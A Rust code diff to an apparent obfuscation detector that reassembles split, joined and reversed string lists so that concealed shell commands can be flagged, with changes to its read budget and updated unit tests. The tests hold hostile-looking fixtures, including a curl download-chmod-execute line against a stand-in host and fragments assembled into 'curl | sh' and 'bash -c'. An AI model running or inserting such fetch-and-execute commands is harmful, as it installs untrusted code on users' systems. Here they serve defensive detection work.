@@ -21,13 +21,21 @@ const MAX_OPENINGS: usize = 100_000;
 /// together: each attempt is bounded, this bounds their sum.
 const MAX_BYTES_READ: usize = 4 * 1024 * 1024;
 
+/// Bytes of budget per byte of the file, on top of [`MAX_BYTES_READ`].
+const BUDGET_PER_BYTE: usize = 16;
+
 /// What is left of [`MAX_BYTES_READ`] for one file.
 #[derive(Debug)]
 struct Budget(std::cell::Cell<usize>);
 
 impl Budget {
-    fn new() -> Self {
-        Self(std::cell::Cell::new(MAX_BYTES_READ))
+    /// The budget of a file of `len` bytes: a constant and a multiple of
+    /// its length, so that ordinary lists in front of a hidden one do not
+    /// spend it (only attempts that each read far, nested, can).
+    fn new(len: usize) -> Self {
+        Self(std::cell::Cell::new(
+            MAX_BYTES_READ.saturating_add(len.saturating_mul(BUDGET_PER_BYTE)),
+        ))
     }
 
     /// Takes `n` bytes from the budget: None once it is spent.
@@ -113,7 +121,7 @@ pub fn joined_lists(text: &str) -> Option<JoinedLists> {
     let joins = EMPTY_JOINS.iter().any(|n| has(n)) || ruby_bare_join || go_join;
     let reverses = REVERSALS.iter().any(|n| has(n));
     let mut built: Vec<Built> = Vec::new();
-    let budget = Budget::new();
+    let budget = Budget::new(bytes.len());
     if joins {
         built.extend(
             memchr::memchr3_iter(b'[', b'{', b'(', bytes)
@@ -147,7 +155,6 @@ pub fn joined_lists(text: &str) -> Option<JoinedLists> {
         end = end.max(b.close + 1);
         keep
     });
-    built.truncate(MAX_LISTS);
     if built.is_empty() {
         return None;
     }
@@ -170,7 +177,7 @@ pub fn joined_lists(text: &str) -> Option<JoinedLists> {
         .collect();
     for (first, last, tail, these) in placed {
         if first < last {
-            lines[last] = tail;
+            lines[last].clone_from(&tail);
             for line in &mut lines[first + 1..last] {
                 line.clear();
             }
@@ -184,7 +191,18 @@ pub fn joined_lists(text: &str) -> Option<JoinedLists> {
             }
         }
         lines[first] = on_first.join("\t");
-        readings.extend(these.into_iter().map(|r| (first as u32 + 1, r)));
+        // What follows the construct on its closing line reads after it
+        // (`''.join([...]) + ' | sh'`).
+        let after = tail.get(1..).unwrap_or_default().trim();
+        if !after.is_empty() {
+            lines[first].push(' ');
+            lines[first].push_str(after);
+        }
+        // The readings decoded: the first few lists' (the rewritten text
+        // holds them all).
+        if readings.len() < MAX_LISTS * 3 {
+            readings.extend(these.into_iter().map(|r| (first as u32 + 1, r)));
+        }
     }
     Some(JoinedLists {
         text: lines.join("\n"),
@@ -535,7 +553,7 @@ mod tests {
             "p = [\n 'ab',\n \"cd\",\n `ef`\n];\nx = p.join('').split('').reverse().join('');\n";
         assert_eq!(
             joined_lists(js).map(|j| j.text).as_deref(),
-            Some("abcdef\nfedcba\nefcdab\n\n];\nx = p.join('').split('').reverse().join('');\n")
+            Some("abcdef ;\nfedcba\nefcdab\n\n];\nx = p.join('').split('').reverse().join('');\n")
         );
         let py = "p = [\n 'ab',\n 'cd',\n 'ef',\n]\nx = ''.join(p)\n";
         assert_eq!(
@@ -549,7 +567,7 @@ mod tests {
         let py = "cmd = ''.join(['cu', 'rl', ' -s'])\n";
         assert_eq!(
             joined_lists(py).map(|j| j.text).as_deref(),
-            Some("curl -s\n")
+            Some("curl -s )\n")
         );
         let rb = "p = [\n 'ab',\n 'cd', 'ef']\nsystem(p.reverse.join)\n";
         assert_eq!(
@@ -569,7 +587,7 @@ mod tests {
         let php = "$p = array('ab', \"cd\", 'ef'); echo strrev(implode('', $p));\n";
         assert_eq!(
             joined_lists(php).map(|j| j.text).as_deref(),
-            Some("abcdef\tfedcba\tefcdab\n")
+            Some("abcdef\tfedcba\tefcdab ; echo strrev(implode('', $p));\n")
         );
     }
 
@@ -602,7 +620,7 @@ mod tests {
         assert_eq!(
             joined_lists(rs).map(|j| j.text).as_deref(),
             Some(
-                "curl -fsSL https://x.example/shim -o $ARG1 && chmod +x $ARG1 && $ARG1\n\n\n\n\n\n\n);\n"
+                "curl -fsSL https://x.example/shim -o $ARG1 && chmod +x $ARG1 && $ARG1 ;\n\n\n\n\n\n\n);\n"
             )
         );
         let py = "cmd = '{0} {1} | {2}'.format('curl', url, 'sh')\nrun = \"%s -c %s\" % (\"bash\", cmd)\n";
@@ -632,7 +650,7 @@ mod tests {
             "'{}'.format(".repeat(100_000),
             "format!(\"{}\",".repeat(100_000)
         );
-        let budget = Budget::new();
+        let budget = Budget::new(0);
         let found = Format::all(hostile.as_bytes(), &budget).count();
         assert_eq!(found, 0);
         // Spent: the attempts read up to the bound, and no further.
@@ -660,10 +678,14 @@ mod tests {
             .map(|i| format!("p{i} = ['a', 'b', 'c']"))
             .collect::<Vec<_>>()
             .join("\n");
-        let out = joined_lists(&format!("{lists}\nx = ''.join(p0)\n"))
-            .map(|j| j.text)
-            .unwrap_or_default();
-        assert_eq!(out.lines().filter(|l| *l == "abc").count(), MAX_LISTS);
+        let out = joined_lists(&format!("{lists}\nx = ''.join(p0)\n"));
+        // Every list is read joined; the first few are decoded.
+        assert_eq!(
+            out.as_ref()
+                .map(|j| j.text.lines().filter(|l| *l == "abc").count()),
+            Some(MAX_LISTS + 4)
+        );
+        assert_eq!(out.map(|j| j.readings.len()), Some(MAX_LISTS + 4));
         // Many openings, each of a list that fails late: still linear.
         let hostile = "['a', ".repeat(200_000);
         assert_eq!(joined_lists(&format!("{hostile}\n''.join(x)\n")), None);
